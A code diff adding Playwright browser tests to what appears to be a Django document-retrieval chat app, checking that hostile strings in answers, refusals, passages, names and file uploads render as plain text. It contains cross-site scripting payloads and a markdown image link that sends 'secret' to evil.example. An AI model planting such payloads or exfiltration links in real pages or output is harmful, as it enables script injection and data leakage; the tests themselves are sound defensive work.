@@ -6,9 +6,13 @@ from collections.abc import Iterator
 from typing import Any
 
 import pytest
+from django.contrib.auth.models import Group
 from playwright.sync_api import expect
 
+from retrieval.models import Document, Passage
 from tests.browser.double import CITATIONS, PASSAGE, SOURCES, TURN, Double, answered, opened, stored
+from tests.browser.states import handbook
+from tests.browser.test_documents_page import doc, stage
 
 HOSTILE = (
     "<script>window.fired=1</script><img src=x onerror='window.fired=1'> ![leak](https://evil.example/?q=secret) "
@@ -111,3 +115,63 @@ def test_a_hostile_answer_title_name_and_passage_fire_nothing(page: Any, double:
     assert page.locator(".message img, .message script, .message svg[onload], .source-panel img").count() == 0
     assert page.locator("a[href^='javascript']").count() == 0
     assert page.problems == []
+
+
+def test_a_refusal_of_hostile_words_is_text(page: Any, double: Double, calls: list[str]) -> None:
+    double.refusal = {"code": HOSTILE, "message": HOSTILE, "advice": HOSTILE, "retryable": True}
+    page.goto("/")
+    page.get_by_label("Your question").fill(HOSTILE)
+    page.keyboard.press("Enter")
+    expect(page.locator("#notice")).to_contain_text("window.fired=1")
+    expect(page.get_by_label("Your question")).to_have_value(HOSTILE)
+
+
+def test_a_hostile_neighbourhood_of_a_passage_is_text(page: Any, double: Double, calls: list[str]) -> None:
+    around = [{"id": 9, "text": HOSTILE, "page": 1}]
+    file = {**PASSAGE["document"], "title": "", "name": HOSTILE, "collection": HOSTILE}
+    double.passage = {**PASSAGE, "before": around, "after": around, "page": None, "locator": HOSTILE, "document": file}
+    opened(page, double, answered() | {"sources": SOURCES, "citations": CITATIONS})
+    page.locator(".cite").first.click()
+    expect(page.locator("#source-panel .around").last).to_have_text(HOSTILE)
+    expect(page.locator("#source-panel .facts")).to_contain_text("onerror='window.fired=1'")
+
+
+def test_hostile_names_of_people_groups_and_documents_are_text(
+    page: Any, double: Double, person: Any, calls: list[str]
+) -> None:
+    person.username = person.first_name = "<img src=x onerror=window.fired=1>"
+    person.save()
+    Group.objects.create(name="<svg onload='window.fired=1'>")
+    handbook()
+    Document.objects.update(title="<b>About</b>")
+    Passage.objects.update(heading="<img src=x onerror=window.fired=1>")
+    page.goto("/")
+    expect(page.locator(".person-name")).to_have_text(person.username)
+    expect(page.locator(".example").first).to_contain_text(person.username)
+    stage(double, [])
+    page.goto("/documents/")
+    page.get_by_role("button", name="New collection").click()
+    expect(page.get_by_role("dialog")).to_contain_text("<svg onload='window.fired=1'>")
+    Document.objects.all().delete()
+    person.is_superuser = False
+    person.save()
+    type(person).objects.create_superuser("<svg onload=window.fired=1>")
+    page.goto("/")
+    expect(page.locator("#empty")).to_contain_text("Ask <svg onload=window.fired=1> to share some")
+
+
+def test_hostile_collections_files_and_refusals_are_text(page: Any, double: Double, calls: list[str]) -> None:
+    stage(double, [doc(1, HOSTILE, "failed", error=HOSTILE, warnings=[{"message": HOSTILE}])])
+    double.collections[0] |= {"name": HOSTILE, "everyone": False, "readers": [HOSTILE]}
+    error = {"error": {"message": HOSTILE, "advice": HOSTILE}}
+    double.receipt = {"status": 400, "json": error}
+    page.goto("/documents/")
+    expect(page.locator("h1")).to_have_text(HOSTILE)
+    expect(page.locator("#readers")).to_have_text(f"Readers: {HOSTILE}")
+    expect(page.locator("#collections button").first).to_contain_text(HOSTILE)
+    page.locator("#files").set_input_files({"name": HOSTILE, "mimeType": "text/plain", "buffer": b"words"})
+    expect(page.locator(".row-problem")).to_have_count(2)
+    expect(page.locator(".row-problem").first).to_contain_text(HOSTILE)
+    page.problems.clear()  # the console names the 400
+    page.locator(".row-buttons button").last.click()
+    expect(page.get_by_role("dialog")).to_contain_text(HOSTILE)
